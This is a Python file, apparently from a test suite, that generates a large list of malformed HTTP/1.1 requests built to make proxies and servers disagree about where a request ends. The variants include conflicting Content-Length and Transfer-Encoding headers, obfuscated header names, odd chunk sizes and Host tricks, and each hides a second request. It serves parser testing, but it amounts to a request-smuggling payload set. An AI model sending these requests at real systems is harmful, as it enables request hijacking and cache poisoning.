"""Requests with which proxies and servers have been led to disagree about where one ends.

Every text has the mark `CASE`, which the tests replace by a number, so that a server knows whose it is. What is
hidden in a body, or behind one, asks for `/CASE/hidden`.
"""

HIDDEN = "GET /CASE/hidden HTTP/1.1\r\nHost: CASE\r\n\r\n"


def _with(*lines, method="POST", body="", path="/CASE", version="1.1", host="Host: CASE"):
    return "\r\n".join([f"{method} {path} HTTP/{version}", *([host] if host else []), *lines, "", body])


def _smuggled():
    """Framing that two readers read in two ways; the hidden request is where they differ."""
    five = "0\r\n\r\n" + HIDDEN
    lengths = ["5\r\nContent-Length: 5", f"5\r\nContent-Length: {5 + len(HIDDEN)}", "+5", "-5", "5,5", "5 5", "0x5", "05;",
               "5\t5", "\x0b5", "5\x0b", "5\x00", "\xa05", "5\xa0", "", "\"5\"", "5.0", "5e0", "18446744073709551621",
               "9223372036854775808", "99999999999999999999999", "five", "5\r\n 5", "5\r\n\t", "0\r\nContent-Length:"]
    codings = ["chunked", " chunked", "Chunked", "xchunked", "chunkedx", "x, chunked", "chunked, x", "chunked, identity",
               "identity", "identity, chunked", "chunked, chunked", "chunked\r\nTransfer-Encoding: x",
               "x\r\nTransfer-Encoding: chunked", "\x0bchunked", "\x0cchunked", "chunked\x0b", "chunked\x00", "\x00chunked",
               "\"chunked\"", "'chunked'", "chunked;q=1", "chunked ;", ",chunked", "chunked,", "", " ", "\tchunked",
               "chun\tked", "\xa0chunked", "chunked\x85", "\r\n chunked", "gzip", "gzip, chunked", "\nchunked", "chunk\r\ned"]
    names = ["Transfer-Encoding ", "Transfer-Encoding\t", " Transfer-Encoding", "Transfer_Encoding", "Transfer-Encoding\x00",
             "Transfer-Encoding\x0b", "Transfer\x00-Encoding", "X: y\nTransfer-Encoding", "X: y\rTransfer-Encoding",
             "X: y\r\n Transfer-Encoding", ": x\r\nTransfer-Encoding", "\r\nTransfer-Encoding", "\x00Transfer-Encoding",
             "Transfer-Encod\xefng", "transfer-encoding:", "Foo\r\nTransfer-Encoding", "Transfer-Encoding\r\n"]
    for value in lengths:
        yield _with(f"Content-Length: {value}", body="hello" + HIDDEN)
    for value in codings:
        yield _with(f"Transfer-Encoding: {value}", body=five)
        yield _with(f"Content-Length: {len(five)}", f"Transfer-Encoding: {value}", body=five)
        yield _with(f"Transfer-Encoding: {value}", "Content-Length: 5", body=five)
    for name in names:
        yield _with(f"{name}: chunked", f"Content-Length: {len(five)}", body=five)
        yield _with(f"{name}: chunked", body=five)
    for name in ("Content-Length ", "Content-Length\t", " Content-Length", "Content_Length", "Content-Length\x00",
                 "\x00Content-Length", "X: y\nContent-Length", "X: y\rContent-Length", "X: y\r\n Content-Length",
                 ": x\r\nContent-Length", "Content-Length\x0b", "Content Length"):
        yield _with(f"{name}: {len(HIDDEN)}", body=HIDDEN)
        yield _with("Content-Length: 0", f"{name}: {len(HIDDEN)}", body=HIDDEN)
    for version in ("1.0", "0.9", "1.2", "2.0", "1.", "1.1 ", "1.1\t", "01.1", "1.01"):
        yield _with("Transfer-Encoding: chunked", body=five, version=version)
        yield _with(f"Content-Length: {len(HIDDEN)}", body=HIDDEN, version=version)


def _chunks():
    """Bodies in chunks that two readers end at two places."""
    for size in ("5 ", " 5", "+5", "-5", "0x5", "5;\n", "5;a\rb", "5;\x00", "5\n", "5\r", "5\r\r", "00000000000000005",
                 "10000000000000005", "fffffffffffffffb", "100000005", "5_", "5,5", "5.", "", "5;" + "x" * 5000, "\t5", "5\t",
                 "5\x0b", "05", "5;a=b", "5 ;a", "8000000000000005"):
        yield _with("Transfer-Encoding: chunked", body=f"{size}\r\nhello\r\n0\r\n\r\n" + HIDDEN.replace("\r\n\r\n", "\r\nX: y"))
    for rest in ("hello0\r\n\r\n", "hello\n0\r\n\r\n", "hello\r0\r\n\r\n", "helloxx0\r\n\r\n", "hell\r\n0\r\n\r\n", "hello\r\n0\n\n",
                 "hello\r\n0\r\n\n", "hello\r\n0\r\nContent-Length: 50\r\n\r\n", "hello\r\n0\r\nTransfer-Encoding: chunked\r\n\r\n",
                 "hello\r\n0\r\n: x\r\n\r\n", "hello\r\n0\r\nX y\r\n\r\n", "hello\r\n0\r\n X: y\r\n\r\n", "hello\r\n0\r\nX: y\n\r\n",
                 "hello\r\n0\r\nHost: evil\r\n\r\n", "hello\r\n0\r\nX: y\r\n\r\n", "hello\r\n00\r\n\r\n", "hello\r\n0;x\r\n\r\n"):
        yield _with("Transfer-Encoding: chunked", body=f"5\r\n{rest}" + HIDDEN.replace("\r\n\r\n", "\r\nX: y"))


def _heads():
    """Heads that two readers read in two ways."""
    for line in ("GET /CASE\tHTTP/1.1", "GET  /CASE HTTP/1.1", "GET /CASE  HTTP/1.1", "GET /CASE HTTP/1.1 x", "GET /CASE",
                 "GET /CASE HTTP/1.1\r", "GET\r /CASE HTTP/1.1", "GET /CA\0SE/CASE HTTP/1.1", "GET /CASE#x HTTP/1.1",
                 "GET CASE HTTP/1.1", "GET http://u@h/CASE HTTP/1.1", "GET http://h/CASE HTTP/1.1", "GET https://h/CASE HTTP/1.1",
                 "GET /CASE?\x7f HTTP/1.1", "GET /CASE?\xff HTTP/1.1", "GET /CASE?\\ HTTP/1.1", "GET /CASE?\" HTTP/1.1",
                 "GET /CASE?x HTTP/1.1\nX: y", "CONNECT /CASE HTTP/1.1", "TRACE /CASE HTTP/1.1", "G=T /CASE HTTP/1.1",
                 "GET /CASE http/1.1", "GET /CASE HTTP/1.1, HTTP/1.1", "GET /../CASE HTTP/1.1", "GET //CASE HTTP/1.1"):
        yield f"{line}\r\nHost: CASE\r\n\r\n"
    for host in ("", "Host:", "Host: CASE\r\nHost: CASE", "Host: CASE\r\nHost: evil", "Host: a,b", "Host: a/b", "Host: u@h",
                 "Host: a b", "Host : CASE", " Host: CASE", "Host: CASE\r\n x", "Host: CASE:x", "Host: [::1", "Host: CASE\0",
                 "Host: CASE\nX: y", "X: y\rHost: CASE", "Host;: CASE", "Ho\0st: CASE", "Host: http://CASE"):
        yield _with("X-Case: CASE", method="GET", host=host)
    for field in ("X", "X y: z", ": z", "X\0: y", "X: \0", "X: \x0b", "X: y\n z", "X: y\r\n z", "X: y\r z", "X(: y", "X: \x1b[31m",
                  "\x80: y", "X: y\r\r\n", "X: y\n", "=: y", "X: \x7f", "X:: y", "X: y\r\n\tz", "@: y", "X,Y: z"):
        yield _with(field, "Content-Length: 0", method="GET")
    for connection in ("close, Host", "Content-Length", "Transfer-Encoding", "X-Forwarded-For", "x" * 200, "close close", "\"x\""):
        yield _with(f"Connection: {connection}", f"Content-Length: {len(HIDDEN)}", body=HIDDEN)
    for expect in ("100-continue", "200-ok", "100-continue, x", ""):
        yield _with(f"Expect: {expect}", f"Content-Length: {len(HIDDEN)}", body=HIDDEN)
    for upgrade in ("h2c", "websocket", ""):
        yield _with("Connection: Upgrade", f"Upgrade: {upgrade}", f"Content-Length: {len(HIDDEN)}", body=HIDDEN)
    for method in ("GET", "HEAD", "DELETE", "OPTIONS", "get"):
        yield _with(f"Content-Length: {len(HIDDEN)}", body=HIDDEN, method=method)


def texts():
    """All of them."""
    return list(dict.fromkeys([*_smuggled(), *_chunks(), *_heads()]))
